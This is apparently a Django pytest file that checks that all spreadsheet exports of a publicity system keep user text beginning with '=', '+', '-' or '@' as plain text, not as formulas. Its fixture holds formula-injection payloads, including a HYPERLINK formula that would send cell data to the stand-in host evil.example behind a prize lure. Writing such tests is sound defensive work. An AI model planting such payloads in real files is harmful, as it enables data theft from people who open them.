"""Issue 13 item 6 (OWASP formula injection): every workbook the system writes keeps user text as text.

A record titled and authored with "=", "+", "-" and "@" prefixes, in a unit whose name starts with "=", goes
through every export — pages, admin lists, commands, templates — and no cell of any of them is a formula."""

import datetime
import io

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from publicity.models import Manuscript, Outlet, Publication, Quota, QuotaLine, Status, Unit
from rewards.services import payout_batch_open
from tests.conftest import make_user

pytestmark = pytest.mark.django_db

EVIL_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"点击领奖")'
EVIL_AUTHORS = "@SUM(1+1)、+张三、-李四"
EVIL_UNIT = "=1+2单位"


@pytest.fixture
def evil(db):
    unit = Unit.objects.create(name=EVIL_UNIT, kind="county")
    for line in QuotaLine.objects.filter(code__in=["L_MUN_UP", "L_RES"]):
        Quota.objects.create(unit=unit, line=line, year=2011, count=2)
    manuscript = Manuscript.objects.create(unit=unit, title=EVIL_TITLE, authors=EVIL_AUTHORS, ref="=REF()")
    Publication.objects.create(manuscript=manuscript, outlet=Outlet.objects.get(name="陕西日报"),
                               published_on=datetime.date(2011, 5, 3), status=Status.APPROVED, page="-第2版",
                               url="http://x.example/=a")
    Publication.objects.create(manuscript=manuscript, outlet=Outlet.objects.get(name="安康日报"),
                               published_on=datetime.date(2011, 6, 3), status=Status.SUBMITTED, title="+转载标题")
    make_user("evil_officer", "信息宣传员", EVIL_UNIT)
    return unit


def formula_cells(content: bytes) -> list[str]:
    workbook = load_workbook(io.BytesIO(content))
    return [f"{ws.title}!{cell.coordinate}={cell.value!r}" for ws in workbook.worksheets
            for row in ws.iter_rows() for cell in row if cell.data_type == "f"]


def evil_texts(content: bytes) -> set[str]:
    workbook = load_workbook(io.BytesIO(content))
    return {cell.value for ws in workbook.worksheets for row in ws.iter_rows() for cell in row
            if isinstance(cell.value, str) and cell.value[:1] in "=+-@"}


def test_no_export_of_the_system_turns_user_text_into_a_formula(client, rita, superuser, evil, tmp_path):
    batch = payout_batch_open(year=2011, period_end=datetime.date(2011, 12, 31), reviewer=None)
    client.force_login(rita)
    pages = [
        reverse("exchange_articles") + "?year=2011",
        reverse("exchange_statistics") + "?year=2011",
        reverse("exchange_articles_template"),
        reverse("exchange_quotas_template"),
        reverse("scoring:bulletin_xlsx") + "?year=2011",
        reverse("scoring:periodic_xlsx") + "?year=2011&period=month&number=5",
        reverse("rewards:batch_xlsx", args=[batch.pk]),
        reverse("rewards:batch_units_xlsx", args=[batch.pk]),
        reverse("reporting:compliance_export") + "?year=2011",
        "/admin/publicity/publication/export/",
        "/admin/publicity/quota/export/",
        "/admin/publicity/quota/statistics/?year=2011",
        "/admin/publicity/publication/template/",
        "/admin/publicity/unit/export/",
        "/admin/publicity/auditevent/export/",
        "/admin/rewards/payoutline/export/",
    ]
    seen = set()
    for url in pages:
        response = client.get(url)
        assert response.status_code == 200, url
        assert formula_cells(response.content) == [], url
        seen |= evil_texts(response.content)
    for command in ("assess", "rewards"):
        path = tmp_path / f"{command}.xlsx"
        call_command(command, "--year", "2011", "--format", "xlsx", "--output", str(path))
        assert formula_cells(path.read_bytes()) == [], command
        seen |= evil_texts(path.read_bytes())
    # The text arrived as it was typed (not dropped, not prefixed), so the check above had something to find.
    assert {EVIL_TITLE, EVIL_UNIT, "+转载标题", "-第2版", "=REF()", "@SUM(1+1)"} <= seen


def test_a_report_export_keeps_user_text_as_text(client, evil):
    from publicity import deadlines
    from publicity.reports import report_submit

    officer = make_user("evil_officer2", "信息宣传员", EVIL_UNIT)
    report = report_submit(unit=evil, period=deadlines.annual_period(2011), officer=officer,
                           today=datetime.date(2011, 12, 20))
    client.force_login(officer)
    response = client.get(reverse("reporting:report_export", args=[report.pk]))
    assert response.status_code == 200
    assert formula_cells(response.content) == []
    assert EVIL_TITLE in evil_texts(response.content)
